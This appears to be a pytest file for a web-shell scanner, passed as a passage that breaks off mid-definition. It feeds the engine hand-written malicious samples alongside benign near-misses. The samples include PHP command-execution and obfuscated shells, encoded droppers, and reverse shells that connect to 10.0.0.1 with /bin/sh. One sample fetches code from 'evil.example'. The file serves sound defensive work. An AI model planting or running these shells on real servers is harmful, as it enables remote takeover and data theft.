"""Engine behaviour on small hand-written samples: shells are flagged, near-misses are not."""
import base64
import logging
import os
import random
import zlib

import pytest

from newfilewatch import yarascan
from newfilewatch.detect import triage
from newfilewatch.detect.engine import Engine

KEYWORDS = ('wget', 'curl', 'lynx', 'gcc', 'perl', 'sh', 'cd', 'mkdir', 'touch', 'base64')


@pytest.fixture(scope='module')
def eng():
    return Engine(keywords=KEYWORDS, threshold=10)


def rules(verdict):
    return {h.rule for h in verdict.hits}


def _deflate(raw):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(raw) + c.flush()


MALICIOUS = [
    ('tiny.php', b"<?php @eval($_GET['p']);", 'php.code.request_input'),
    ('cmd.php', b"<?php echo shell_exec($_POST['cmd']); ?>", 'php.exec.request_input'),
    ('bt.php', b"<?php $c = $_REQUEST['c']; echo `$c`; ?>", 'php.exec.request_input'),
    ('taint.php', b"<?php\n$x = trim($_COOKIE['k']);\n$y = base64_decode($x);\nsystem($y);\n",
     'php.exec.request_input'),
    ('cb.php', b"<?php array_map('assert', (array)$_REQUEST['z']);", 'php.code.request_input'),
    ('fn.php', b"<?php $_GET['f']($_GET['a']);", 'php.call.request_function'),
    ('cuf.php', b"<?php call_user_func($_POST['f'], $_POST['a']);", 'php.call.request_function'),
    ('hdr.php', b"<?php $h = getallheaders(); eval($h['X-Run']);", 'php.code.request_input'),
    ('inp.php', b"<?php eval(file_get_contents('php://input'));", 'php.code.request_input'),
    ('inc.php', b"<?php include $_GET['page'];", 'php.include.request_input'),
    ('split.php', b"<?php $f = 'as' . 'se' . 'rt'; $f($_POST['x']);", 'php.obfuscation.hidden_function'),
    ('hex.php', b'<?php $f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f($_POST[1]);',
     'php.obfuscation.hidden_function'),
    ('chr.php', b'<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET[1]);',
     'php.obfuscation.hidden_function'),
    ('globals.php', b"<?php if ($cmd) { system($cmd); }", 'php.exec.global_input'),
    ('rev.php', b"<?php $s=fsockopen('10.0.0.1', 4444); proc_open('/bin/sh -i', "
                b"array(0=>$s, 1=>$s, 2=>$s), $p);", 'php.revshell.socket_shell'),
    ('up.php', b"<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/x.php');",
     'php.write.request_path'),
    ('drop.php', b"<?php file_put_contents('x.php', file_get_contents('http://evil.example/s.txt'));",
     'php.dropper.remote_write'),
]


@pytest.mark.parametrize('name,src,rule', MALICIOUS, ids=[m[0] for m in MALICIOUS])
def test_malicious_samples_are_flagged_with_the_expected_rule(eng, name, src, rule):
    v = eng.analyse(src, '/var/www/html/' + name)
    assert rule in rules(v), v
    if rule not in ('php.dropper.remote_write', 'php.write.request_path'):
        assert v.suspicious, v


def test_encoded_dropper_is_decoded_and_explained(eng):
    blob = base64.b64encode(_deflate(b'system($_GET["c"]);')).decode()
    v = eng.analyse(("<?php\n\neval(gzinflate(base64_decode('%s')));" % blob).encode(), 'x.php')
    assert v.suspicious
    assert {'php.code.decoded_input', 'php.exec.request_input'} <= rules(v)
    inner = [h for h in v.hits if h.rule == 'php.exec.request_input'][0]
    assert inner.line == 3 and inner.text.startswith('decoded: ')


def test_mass_mailer(eng):
    src = (b"<?php\n$list = explode(\"\\n\", $_POST['emails']);\n"
           b"foreach ($list as $to) {\n  mail($to, $_POST['s'], $_POST['b']);\n}\n")
    v = eng.analyse(src, 'm.php')
    assert {'php.mailer.request_recipients', 'php.mailer.loop'} <= rules(v)
    assert v.suspicious


def test_hit_fields_explain_the_alert(eng):
    v = eng.analyse(b"<?php\n// upload helper\n@eval($_POST['z']);\n", 'a.php')
    h = [h for h in v.hits if h.rule == 'php.code.request_input'][0]
    assert (h.line, h.severity, h.weight) == (3, 'critical', 15)
    assert "eval($_POST['z'])" in h.text
    assert v.score >= 15


def test_php_in_image_and_cheap_clean_image(eng):
    png = b'\x89PNG\r\n\x1a\n' + bytes(range(256)) * 40
    assert not eng.analyse(png, 'photo.png').hits
    jpg_xmp = b'\xff\xd8\xff\xe1<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>' + b'\0' * 100
    assert not eng.analyse(jpg_xmp, 'p.jpg').hits
    v = eng.analyse(b'GIF89a\x01\x00<?php system($_GET["c"]); ?>', 'avatar.gif')
    assert 'file.code_in_image' in rules(v) and v.suspicious


def test_htaccess_and_user_ini(eng):
    v = eng.analyse(b'AddType application/x-httpd-php .jpg .png\n', '/srv/www/up/.htaccess')
    assert 'htaccess.php_handler' in rules(v) and v.suspicious
    ok = eng.analyse(b'AddHandler application/x-httpd-ea-php74 .php .php7 .phtml\n', '.htaccess')
    assert not ok.hits
    fpm = eng.analyse(b'<FilesMatch \\.php$>\n SetHandler "proxy:unix:/run/php/php-fpm.sock|fcgi://x"\n'
                      b'</FilesMatch>\n', '.htaccess')
    assert not fpm.hits
    v = eng.analyse(b'auto_prepend_file = /var/www/html/uploads/a.gif\n', '.user.ini')
    assert 'htaccess.auto_prepend' in rules(v) and v.suspicious


def test_cgi_scripts(eng):
    perl = (b'#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint `' + b'$' + b'{\\$q->param("c")}`;\n')
    v = eng.analyse(perl, 'x.cgi')
    assert 'cgi.exec.request_input' in rules(v) and v.suspicious
    py = b'import socket,os,pty\ns=socket.socket()\ns.connect(("10.0.0.1",1))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n'
    assert 'cgi.revshell' in rules(eng.analyse(py, 'r.py'))


def test_asp_and_jsp(eng):
    assert 'asp.exec.request_input' in rules(eng.analyse(b'<%eval request("x")%>', 'a.asp'))
    jsp = b'<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>'
    assert 'jsp.exec.request_input' in rules(eng.analyse(jsp, 'a.jsp'))


def test_keywords_count_only_where_code_runs(eng):
    v = eng.analyse(b'<?php system("cd /tmp; wget http://x/a; perl a"); ?>', 'k.php')
    kws = [h for h in v.hits if h.rule == 'keyword.exec_context']
    assert {h.text.split(':')[0] for h in kws} >= {'cd', 'wget', 'perl'}
    assert v.suspicious
    readme = b'Installation\n\nRun wget http://example.org/pkg.tgz, then mkdir cache and touch it.\n' \
             b'This should work properly; check the hash.\n'
    assert not eng.analyse(readme, 'readme.txt').hits


BENIGN = [
    ('avatar.php', b"""<?php
$ext = strtolower(pathinfo($_FILES['avatar']['name'], PATHINFO_EXTENSION));
if (!in_array($ext, array('jpg', 'png', 'gif'), true)) { die('bad type'); }
$dest = __DIR__ . '/avatars/' . md5(uniqid('', true)) . '.' . $ext;
move_uploaded_file($_FILES['avatar']['tmp_name'], $dest);
"""),
    ('thumb.php', b"""<?php
$src = escapeshellarg($_FILES['img']['tmp_name']);
exec('convert ' . $src . ' -resize 200x200 ' . escapeshellarg($out), $lines, $rc);
"""),
    ('cache.php', b"""<?php
function save_settings($settings) {
    file_put_contents(__DIR__ . '/cache/settings.php', '<?php return ' . var_export($settings, true) . ';');
}
"""),
    ('http.php', b"""<?php
$ch = curl_init('https://api.example.org/v1/items');
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
$items = json_decode(curl_exec($ch), true);
curl_close($ch);
"""),
    ('readme.txt', b'Install: wget the tarball, mkdir wp-content/cache, touch .htaccess, run sh setup.sh\n'),
    ('plugin.php', b"""<?php
/* Plugin Name: Share */
function share_token($user) {
    return base64_encode(json_encode(array('u' => $user->ID, 't' => time())));
}
function share_read($token) {
    return json_decode(base64_decode($token), true);
}
add_action('init', function () { if (isset($_GET['share'])) { share_read($_GET['share']); } });
"""),
    ('app.min.js', b'!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,'
                   b'l:!1,exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}'
                   b'n.m=e,n.c=t}([function(e,t){eval("1+1")}]);'),
    ('router.php', b"""<?php
$action = isset($_GET['action']) ? $_GET['action'] : 'index';
$allowed = array('index', 'list');
if (in_array($action, $allowed, true)) { include __DIR__ . '/views/' . $action . '.php'; }
echo htmlspecialchars($_GET['q']);
"""),
]


@pytest.mark.parametrize('name,src', BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_near_misses_are_not_flagged(eng, name, src):
    v = eng.analyse(src, '/var/www/html/' + name)
    assert not v.suspicious, v
    assert v.score < 10


def test_never_raises_on_random_or_hostile_bytes(eng):
    rnd = random.Random(4)
    pieces = [b'<?php', b'eval(', b'$_GET[', b'base64_decode(', b"'", b'"', b'\\x', b'`', b'(', b')',
              b'chr(', b'/*', b'\n', b'gzinflate(', b'system(', b'$a', b'=', b';', b'\xff', b'<%']
    for _ in range(300):
        blob = b''.join(rnd.choice(pieces) for _ in range(rnd.randint(0, 200)))
        for name in ('a.php', 'a.jpg', '.htaccess', 'a.cgi', 'a.txt', 'a.asp', '\udcff.php'):
            v = eng.analyse(blob, name)
            assert 'engine.error' not in rules(v), (blob, name)
    assert eng.analyse(b'', 'empty.php').score == 0


def test_disabled_rules_and_unknown_names():
    src = b"<?php @eval($_GET['p']);"
    e = Engine(disabled_rules=('php.code.request_input', 'php.code.eval_variable',
                               'php.small.dynamic_input'))
    assert not e.analyse(src, 'a.php').hits
    with pytest.raises(ValueError) as err:
        Engine(disabled_rules=('php.no.such_rule',))
    assert 'php.no.such_rule' in str(err.value)
    assert 'php.code.request_input' in Engine().rule_names()


def test_threshold_is_configurable():
    src = b'<?php system("ls");'                     # exec.call alone: 2 points
    assert not Engine(threshold=10).analyse(src, 'a.php').suspicious
    assert Engine(threshold=2).analyse(src, 'a.php').suspicious


def test_from_config_uses_scan_section():
    from newfilewatch import config
    cfg = config.load(None) if not os.path.exists(config.DEFAULT_PATH) else None
    if cfg is None:
        pytest.skip('a real /etc/newfilewatch.conf exists on this machine')
    e = Engine.from_config(cfg.scan)
    assert e.threshold == cfg.scan.threshold and 'wget' in e.keywords


def test_yara_missing_is_logged_once(caplog, tmp_path):
    rule = tmp_path / 'r.yar'
    rule.write_text('rule Foo { strings: $a = "zzz" condition: $a }')
    if yarascan.yara is not None:
        e = Engine(yara_rules=(str(tmp_path / '*.yar'),))
        v = e.analyse(b'zzz', 'x.txt')
        assert 'yara.Foo' in rules(v) and v.suspicious
        return
    with caplog.at_level(logging.WARNING):
        e = Engine(yara_rules=(str(tmp_path / '*.yar'),))
        e.analyse(b'zzz', 'x.txt')
        e.analyse(b'zzz', 'y.txt')
    msgs = [r for r in caplog.records if 'YARA' in r.getMessage()]
    assert len(msgs) == 1


# --- names and code computed from pieces, then called (hand-written) -------------------------
COMPUTED = [
    ('strtr.php', b"<?php $a = strtr('azxcvt', 'zxcv', 'sser'); $a($_POST['x']);"),
    ('trim.php', b"<?php $a = trim(' assert '); $a($_POST['x']);"),
    ('pieces.php', b"<?php $a = 'a'; $s = 's'; $c = $a . $s . 'sert'; $c($_SERVER['HTTP_X']);"),
    ('xor.php', b"<?php $f = ('S' ^ ' ') . ('Y' ^ ' ') . 'stem'; $f('id');"),
    ('comment.php', b"<?php $f = 'sys'./*x*/'tem'; $f /*y*/ ($_GET[1]);"),
]


@pytest.mark.parametrize('name,src', COMPUTED, ids=[c[0] for c in COMPUTED])
def test_function_names_computed_from_pieces_are_resolved(eng, name, src):
    v = eng.analyse(src, name)
    assert 'php.call.computed_name' in rules(v), v
    assert v.suspicious


def test_hidden_superglobal_and_code_built_for_eval(eng):
    v = eng.analyse(b"<?php $p = ${'_PO' . 'ST'}; $s = 'e' . 'cho 1;'; "
                    b"$c = 'sys' . 'tem($_GET[c]);'; eval($c);", 'h.php')
    assert 'php.obfuscation.hidden_input' in rules(v), v
    assert rules(v) & {'php.exec.request_input', 'php.code.request_input'}, v
    assert v.suspicious


def test_preg_replace_e_with_escaped_code_is_read_as_code(eng):
    src = b'<?php preg_replace("/.*/e", "\\x73\\x79\\x73\\x74\\x65\\x6d(\\$_GET[c]);", "");'
    v = eng.analyse(src, 'p.php')
    assert {'php.preg_replace.eval_modifier', 'php.exec.request_input'} <= rules(v), v


def test_last_argument_callback_with_dangerous_name(eng):
    v = eng.analyse(b'<?php array_udiff_assoc(array($_REQUEST["k"]), array(1), "assert");', 'u.php')
    assert v.suspicious, v


NOT_COMPUTED = [
    # a whitelisted handler name written out whole, chosen by the code, not the client
    ('mover.php', b"<?php function up($tmp, $dst, $move = 'move_uploaded_file') {\n"
                  b"  if (!preg_match('/^[a-z0-9]+\\.(png|jpg)$/', basename($dst))) return false;\n"
                  b"  return $move($tmp, '/var/www/avatars/' . basename($dst)); }\n"),
    ('fmt.php', b"<?php $fn = 'str' . 'toupper'; echo $fn($_GET['name'] ?? '');"),
    ('ctrl.php', b"<?php $map = ['show' => 'showPage', 'list' => 'listPages'];\n"
                 b"$a = $_GET['a'] ?? 'show';\n"
                 b"if (isset($map[$a])) { call_user_func([$this, $map[$a]], $request); }\n"),
]


@pytest.mark.parametrize('name,src', NOT_COMPUTED, ids=[c[0] for c in NOT_COMPUTED])
def test_benign_dynamic_calls_are_not_flagged(eng, name, src):
    v = eng.analyse(src, name)
    assert 'php.call.computed_name' not in rules(v), v
    assert not v.suspicious, v


def test_triage_skips_plain_code_but_not_shells(eng):
    plain = b"<?php\n" + b"function f($a) { return array_sum($a) * 2; }\n" * 2000
    assert triage._worth_deep_look(plain, plain[::-1].lower()) is False
    shell = plain + b"@eval($_POST['z']);\n"
    assert triage._worth_deep_look(shell, shell[::-1].lower()) is True
    assert eng.analyse(shell, 'big.php').suspicious


def test_triage_traces_input_only_near_weak_calls(eng):
    filler = b"function f($a) { return array_sum($a) * 2; }\n" * 200
    far = b"<?php\n$page = $_GET['p'];\n" + filler + b"call_user_func($cb, 1);\n"
    assert triage._worth_deep_look(far, far[::-1].lower()) is False
    near = b"<?php\n" + filler + b"$f = $_GET['f'];\ncall_user_func($f, 1);\n" + filler
    assert triage._worth_deep_look(near, near[::-1].lower()) is True
    assert eng.analyse(near, 'big.php').suspicious
    hdr = b"<?php\n" + filler + b"$h = getallheaders();\narray_map($h['X'], [1]);\n" + filler
    assert triage._worth_deep_look(hdr, hdr[::-1].lower()) is True


# --- behavioural families added for issue 4 ------------------------------------------------
# Small hand-written samples of each family, and the benign code that looks most like them.
FAMILIES = [
    # a few lines: request input and a function chosen at run time, however it is spelled
    ('small.php', b"<?php\n$a = substr_replace('xyzzy', 'pick', 2);\n$a($_POST['x']);\n",
     'php.small.dynamic_input'),
    ('small2.php', b"<?php\nfunction w($f) { $f($_POST['x']); }\nw($_GET['n']);\n",
     'php.small.dynamic_input'),
    ('varvar.php', b"<?php\nforeach (array('_POST') as $r) { foreach ($$r as $k => $v) { $$k = $v; } }\n"
                   b"$o = new ReflectionClass('T');\n$o->newInstance($k, $v);\n",
     'php.small.dynamic_input'),
    # register_globals: a never-set variable named like the page's own form field
    ('rg.php', b"<form method=post><input name=victim><input name=dir></form>\n"
               b"<?php if ($victim) { unlink(\"$dir/$victim\"); rename($dir, $dir . '.old'); } ?>",
     'php.globals.form_sink'),
    ('rgcmd.php', b"<form><input name='cmd'></form><?php if ($cmd == '') $cmd = 'ls';\n"
                  b"system($cmd); ?>", 'php.exec.form_input'),
    # one page bundling a shell's tools behind a form
    ('kit.php', b"<form method=post><input name=c></form><?php\n"
                b"echo php_uname(); $d = opendir('.'); while ($f = readdir($d)) echo $f;\n"
                b"if (isset($_POST['del'])) unlink($_POST['del']);\n"
                b"echo shell_exec($c);\n", 'php.shell.toolkit'),
    # encrypted payloads: the body is decrypted, then evaluated
    ('enc.php', b"<?php session_start(); $k = 'k3y';\n$d = file_get_contents('php://input');\n"
                b"for ($i = 0; $i < strlen($d); $i++) { $d[$i] = $d[$i] ^ $k[$i + 1 & 15]; }\n"
                b"$_SESSION['p'] = $d; class C { function r($p) { eval($p); } }\n"
                b"(new C)->r($_SESSION['p']);\n" + b"// padding\n" * 250,
     'php.code.decrypted_input'),
]


@pytest.mark.parametrize('name,src,rule', FAMILIES, ids=[f[0] for f in FAMILIES])
def test_behaviour_families(eng, name, src, rule):
    v = eng.analyse(src, '/var/www/html/' + name)
    assert rule in rules(v), v
    assert v.suspicious, v


NEAR_MISSES = [
    # avatar uploader: fixed directory, extension check, server-made name
    ('avatar.php', b"<form enctype='multipart/form-data' method=post><input type=file name=avatar></form>\n"
                   b"<?php $ext = strtolower(pathinfo($_FILES['avatar']['name'], PATHINFO_EXTENSION));\n"
                   b"if (in_array($ext, array('png', 'jpg'))) {\n"
                   b"  move_uploaded_file($_FILES['avatar']['tmp_name'], __DIR__ . '/avatars/' . md5(uniqid()) . '.' . $ext); }\n"),
    # ImageMagick through exec with escaped arguments, and a settings form
    ('thumb.php', b"<form method=post><input name=width></form><?php\n"
                  b"$w = (int)($_POST['width'] ?? 100); $src = __DIR__ . '/in.png';\n"
                  b"exec('convert ' . escapeshellarg($src) . ' -resize ' . $w . ' out.png');\n"),
    # an admin page listing its own uploads directory, with a delete button
    ('uploads.php', b"<form method=post><input name=file type=hidden></form><?php\n"
                    b"$dir = __DIR__ . '/uploads'; foreach (scandir($dir) as $f) echo htmlspecialchars($f);\n"
                    b"if (isset($_POST['file'])) { $file = basename($_POST['file']);\n"
                    b"  unlink($dir . '/' . $file); }\n"),
    # a hook dispatcher: the name comes from a registry the code owns
    ('hooks.php', b"<?php\n$hooks = array('init' => 'setup_theme');\n"
                  b"$h = isset($_GET['page']) ? 'init' : 'init';\n"
                  b"call_user_func($hooks[$h]);\n"),
    # a contact form mailing one fixed address
    ('contact.php', b"<form method=post><input name=msg></form><?php\n"
                    b"if (!empty($_POST['msg'])) mail('webmaster@example.org', 'Contact', strip_tags($_POST['msg']));\n"),
    # a settings cache written with var_export and read back with include
    ('cache.php', b"<?php $cfg = array('a' => 1);\n"
                  b"file_put_contents(__DIR__ . '/cache.php', '<?php return ' . var_export($cfg, true) . ';');\n"
                  b"$cfg = include __DIR__ . '/cache.php';\n"),
    # JavaScript templates with <%= %> in a PHP page
    ('tpl.php', b"<?php echo 'x'; ?><script type='text/template'><%= name %> <% if (a) { %>y<% } %></script>"),
]


@pytest.mark.parametrize('name,src', NEAR_MISSES, ids=[n[0] for n in NEAR_MISSES])
def test_benign_near_misses_of_the_families(eng, name, src):
    v = eng.analyse(src, '/var/www/html/' + name)
    assert not v.suspicious, v


def test_taint_survives_comments_and_javascript_functions(eng):
    src = (b"<script>function go() { return 1; }</script><?php\n"
           b"// the command line\n$cmd = $_POST['c'];\n"
           b"echo '<script>function x(){}</script>';\n"
           b"echo shell_exec($cmd);\n")
    v = eng.analyse(src, 'c.php')
    assert 'php.exec.request_input' in rules(v), v


def test_taint_stays_in_its_php_function(eng):
    src = (b"<?php\nfunction a() { $x = $_GET['q']; return strlen($x); }\n"
           b"function b() { $x = 'ls'; return shell_exec($x); }\n")
    assert 'php.exec.request_input' not in rules(eng.analyse(src, 'f.php'))


# --- held-out applications: ordinary code that must not alarm -------------------------------

def test_application_exec_wrappers_are_not_shells(eng):
    # a poller/renderer wraps several command functions, each with its own command line
    wrappers = (b"<?php\nfunction run($c) { return shell_exec(CMD_A . ' --x'); }\n"
                b"function pipe() { return popen($this->rrdtool . ' -', 'w'); }\n"
                b"function cores() { return system('nproc'); }\n"
                b"// proc_open() sometimes uses a shell\n")
    v = eng.analyse(wrappers, 'lib/poller.php')
    assert not v.suspicious
    assert [h.weight for h in v.hits if h.rule == 'php.exec.many_methods'] == [4]
    assert all('proc_open() sometimes' not in h.text for h in v.hits)   # a comment is no call
    # a shell tries the same command every way
    shell = (b"<?php $c = $_POST['c'];\nif (function_exists('system')) system($c);\n"
             b"elseif (function_exists('passthru')) passthru($c);\nelse echo shell_exec($c);\n")
    v = eng.analyse(shell, 's.php')
    assert [h.weight for h in v.hits if h.rule == 'php.exec.many_methods'] == [8]


def test_config_arrays_from_includes_are_not_register_globals(eng):
    page = (b"<?php include('./include/auth.php');\n"
            b"$p = proc_open(read_config_option('php') . ' ' . $config['base_path'] . '/x.php', $d, $pipes);\n")
    assert 'php.exec.global_input' not in rules(eng.analyse(page, 'cmd_realtime.php'))
    assert 'php.exec.global_input' in rules(eng.analyse(b'<?php system($cmd); ?>', 'rg.php'))


def test_application_admin_page_is_not_a_toolkit(eng):
    body = (b'<form method="post"><input name="action"></form><?php\n'
            b"unlink($tmpfile); $d = opendir($dir); exec('rrdtool --version', $out);\n"
            b"echo disk_free_space('/');\n")
    assert 'php.shell.toolkit' in rules(eng.analyse(b'<?php ?>' + body, 'tk.php'))
    app = b"<?php include_once('./include/global.php'); ?>" + body
    assert 'php.shell.toolkit' not in rules(eng.analyse(app, 'utilities.php'))


def test_words_and_strings_do_not_spell_hidden_names(eng):
    # comment words 'handler if write' never join into fwrite; only joined literals do
    comment = b"<?php\n// send error to PHP's error handler if write_log failed\n$r = shell_exec($cmd);\n"
    assert 'php.obfuscation.hidden_function' not in rules(eng.analyse(comment, 'rcube.php'))
    joined = b"<?php $f = 'sys' . \"tem\"; $f($_GET['c']);"
    assert 'php.obfuscation.hidden_function' in rules(eng.analyse(joined, 'j.php'))
    # an escape in one string must not make the code between two strings 'a literal'
    between = b"<?php $a = q(preg_replace('~[_%[]~', '[\\x00]', $x)) . \"a\";\n"
    assert 'php.obfuscation.hidden_function' not in rules(eng.analyse(between, 'sel.php'))
    assert 'php.obfuscation.hidden_function' in rules(
        eng.analyse(b'<?php $f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f($_GET[1]);', 'x.php'))


def test_decoder_callbacks_and_interpolation_are_not_calls(eng):
    v = eng.analyse(b"<?php list($a, $b) = array_map('base64_decode', explode('-', $_COOKIE['k']));", 'a.php')
    assert 'php.callback.dangerous_name' not in rules(v) and not v.suspicious
    sql = b'<?php foreach ($_POST as $row) { $q .= "PARTITION BY $row[by]($row[expr])"; }'
    assert 'php.call.request_function' not in rules(eng.analyse(sql, 'create.php'))


def test_small_framework_files_are_not_one_liners(eng):
    evaluator = (b"<?php class E { function ev($code, $vars = []) {\n"
                 b"  foreach ($vars as $k => $v) { $$k = $v; }\n  eval($code); } }\n")
    assert not eng.analyse(evaluator, 'PhpEvaluator.php').suspicious
    repl = (b"<?php $h = isset($_ENV['HOME']) ? $_ENV['HOME'] : '/tmp';\n"
            b"while (($line = readline()) !== false) { $val = eval($line . ';'); }\n")
    assert 'php.small.dynamic_input' not in rules(eng.analyse(repl, 'maintenance/eval.php'))
    closure = (b"<?php $s = ['GLOBALS', '_POST', '_GET'];\n"
               b"$v = array_filter($g, static function (string $name) { return $name; });\n")
    assert 'php.small.dynamic_input' not in rules(eng.analyse(closure, 'Pass.php'))


# --- ASP/JSP server code, also when saved under a PHP or text name ---------------------------

ASP_FM = (b'<%@ Language=VBScript %>\n<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\n'
          b'p = Request.Form("path")\nSet f = fso.CreateTextFile(p, True)\nf.Write Request("body")\n%>\n')
JSP_FM = (b'<%@ page import="java.io.*" %>\n<%\nString p = request.getParameter("f");\n'
          b'FileOutputStream o = new FileOutputStream(p);\no.write(request.getParameter("d").getBytes());\n%>\n')
JSP_RT = (b'<%@ page import="java.io.*" %>\n<% Runtime rt = Runtime.getRuntime();\n'
          b'Process pr = rt.exec(request.getParameter("cmd")); %>\n')


@pytest.mark.parametrize('name', ['fm.php', 'fm.txt', 'fm.html'])
def test_foreign_server_code_under_a_php_or_text_name(eng, name):
    v = eng.analyse(ASP_FM, name)
    assert {'asp.file.request_input', 'file.foreign_server_code'} <= rules(v) and v.suspicious
    v = eng.analyse(JSP_FM, name)
    assert {'jsp.file.request_input', 'file.foreign_server_code'} <= rules(v) and v.suspicious
    v = eng.analyse(JSP_RT, name)
    assert 'jsp.exec.request_input' in rules(v) and v.suspicious


def test_asp_file_manager_in_its_own_extension_needs_more_evidence(eng):
    v = eng.analyse(ASP_FM, 'fm.asp')
    assert 'asp.file.request_input' in rules(v) and 'file.foreign_server_code' not in rules(v)


def test_js_templates_and_java_docs_are_not_server_code(eng):
    ejs = (b'<?php $title = "x"; ?>\n<script type="text/template" id="row">\n'
           b'<% _.each(items, function(item) { %><li><%= item.name %></li><% }); %>\n'
           b'<% if (request.form) { %><%- request.querystring %><% } %>\n</script>\n')
    v = eng.analyse(ejs, 'views/list.php')
    assert not v.suspicious and not any(r.startswith(('asp.', 'jsp.', 'file.')) for r in rules(v))
    doc = (b'Servlet example\n\n  String f = request.getParameter("name");\n'
           b'  FileOutputStream out = new FileOutputStream(new File(dir, "upload.bin"));\n'
           b'  ProcessBuilder is not needed here.\n')
    assert not eng.analyse(doc, 'docs/servlets.txt').suspicious


# --- eval of a decoder the file defines itself -----------------------------------------------

_BLOB = base64.b64encode(bytes(random.Random(7).getrandbits(8) for _ in range(300)))


def test_eval_of_a_home_made_decoder(eng):
    direct = (b"<?php\nFunction unpackit($s)\n{\n  $s = gzuncompress(base64_decode($s));\n"
              b"  for ($i = 0; $i < strlen($s); $i++) { $s[$i] = chr(ord($s[$i]) - 1); }\n"
              b"  return $s;\n}\neval(unpackit(\"" + _BLOB + b"\"));\n")
    v = eng.analyse(direct, 'p.php')
    assert 'php.code.custom_decoder' in rules(v) and v.suspicious
    via_var = (b"<?php\nfunction x0($k) { $o = ''; foreach (str_split($k, 2) as $h) { $o .= chr(hexdec($h)); }"
               b" return $o; }\n$blob = '" + _BLOB + b"';\n$code = x0($blob);\nassert($code);\n")
    assert 'php.code.custom_decoder' in rules(eng.analyse(via_var, 'q.php'))


def test_home_made_formatting_and_short_templates_are_not_packers(eng):
    fmt = (b"<?php\nfunction spaced($s) { $o = ''; foreach (str_split($s) as $c) { $o .= chr(ord($c)); } return $o; }\n"
           b"echo spaced('" + _BLOB + b"');\n")
    assert 'php.code.custom_decoder' not in rules(eng.analyse(fmt, 'f.php'))
    tpl = (b"<?php\nfunction compile_tpl($t) { return str_replace('{{', '<?php echo ', strrev($t)); }\n"
           b"eval('?>' . compile_tpl($template));\n")
    assert 'php.code.custom_decoder' not in rules(eng.analyse(tpl, 't.php'))


# --- code built from symbols ------------------------------------------------------------------

def test_symbol_built_shells(eng):
    xor = (b"<?php\n$_ = ('%01' ^ '`') . ('%13' ^ '`') . ('%13' ^ '`') . ('%05' ^ '`');\n"
           b"$__ = '_' . ('%0D' ^ ']') . ('%2F' ^ '`');\n$___ = $$__;\n$_($___[_]);\n")
    v = eng.analyse(xor, 'x.php')
    assert 'php.obfuscation.symbol_code' in rules(v) and v.suspicious
    inc = b"<?php\n$_ = [];\n$_ = @\"$_\";\n$_ = $_['!' == '@'];\n$__ = $_;\n" + \
        b"$__++;" * 18 + b"\n$___ = $_ . $__;\n$__ = $_;\n" + b"$__++;" * 4 + b"\n$___ .= $__;\n$___($_[_]);\n"
    v = eng.analyse(inc, 'i.php')
    assert 'php.obfuscation.symbol_code' in rules(v) and v.suspicious


def test_letters_picked_by_index_and_chr_joins(eng):
    pick = (b"<?php\n$a = 'abcdefghijklmnopqrstuvwxyz';\n$f = $a[2] . $a[17] . $a[4] . $a[0] . $a[19] . $a[4];\n"
            b"$f .= '_' . $a[5] . $a[20] . $a[13] . $a[2] . $a[19] . $a[8] . $a[14] . $a[13];\n$g = $f('', $b);\n")
    assert 'php.obfuscation.symbol_code' in rules(eng.analyse(pick, 'p.php'))


def test_minified_js_and_legit_chr_are_not_symbol_code(eng):
    js = (b"<?php $t = 'x'; ?><script>var $_=function(a){return a^1|2};$_(3);$__=$_;"
          b"$__(~'a'^'b'|'c');</script>")
    assert 'php.obfuscation.symbol_code' not in rules(eng.analyse(js, 'page.php'))
    fmt = (b"<?php\nfunction box($w) { return chr(43) . str_repeat(chr(45), $w) . chr(43) . chr(10); }\n"
           b"$line = chr(124) . chr(32) . chr(32) . chr(124) . chr(32) . chr(32) . chr(124);\necho box(10), $line;\n")
    v = eng.analyse(fmt, 'cli/table.php')
    assert 'php.obfuscation.symbol_code' not in rules(v) and not v.suspicious


# --- gaps found with hand-written samples ---------------------------------------------------

def test_request_condition_picking_between_literals_is_not_request_controlled(eng):
    """The client decides WHICH of two names the file wrote out, not what runs."""
    benign = (b"<?php\n$rows = load_rows();\n"
              b"$sorter = $_GET['desc'] ? 'array_reverse' : 'array_values';\n"
              b"$rows = $sorter($rows);\nprint_r($rows);\n")
    v = eng.analyse(benign, '/var/www/html/list.php')
    assert not v.suspicious and v.score == 0, v
    # near-miss the other way: a branch that is the request value itself stays tainted
    shell = b'<?php\n$f = $_GET["x"] ? $_GET["x"] : "phpinfo";\n$f($_GET["c"]);\n'
    v = eng.analyse(shell, '/var/www/html/s.php')
    assert v.suspicious and 'php.call.request_function' in rules(v), v
    # and a literal branch that names an execution function is still seen
    shell = b'<?php\n$f = $_GET["x"] ? "system" : "phpinfo";\n$f($_GET["c"]);\n'
    assert eng.analyse(shell, '/var/www/html/s2.php').suspicious


def test_request_fetch_written_to_a_request_path_is_a_dropper(eng):
    """The client names both the URL fetched and where it lands: a dropper."""
    for src in (b"<?php\n$d = file_get_contents($_GET['src']);\n"
                b"file_put_contents(__DIR__ . '/' . $_GET['dst'], $d);\n",
                b'<?php\n$u = $_POST["u"]; $ch = curl_init($u);\n$body = curl_exec($ch);\n'
                b'$h = fopen($_POST["to"], "w"); fwrite($h, $body);\n'):
        v = eng.analyse(src, '/var/www/html/d.php')
        assert v.suspicious and 'php.dropper.remote_write' in rules(v), v
    # near-miss: a local template saved under a request name is only the weaker write rule
    near = (b'<?php\n$d = file_get_contents(__DIR__ . "/template.txt");\n'
            b'file_put_contents(__DIR__ . "/" . $_GET["dst"], $d);\n')
    v = eng.analyse(near, '/var/www/html/t.php')
    assert not v.suspicious and 'php.dropper.remote_write' not in rules(v), v


UPLOADER_FORM = (b'<form method=post enctype=multipart/form-data><input type=file name=f>'
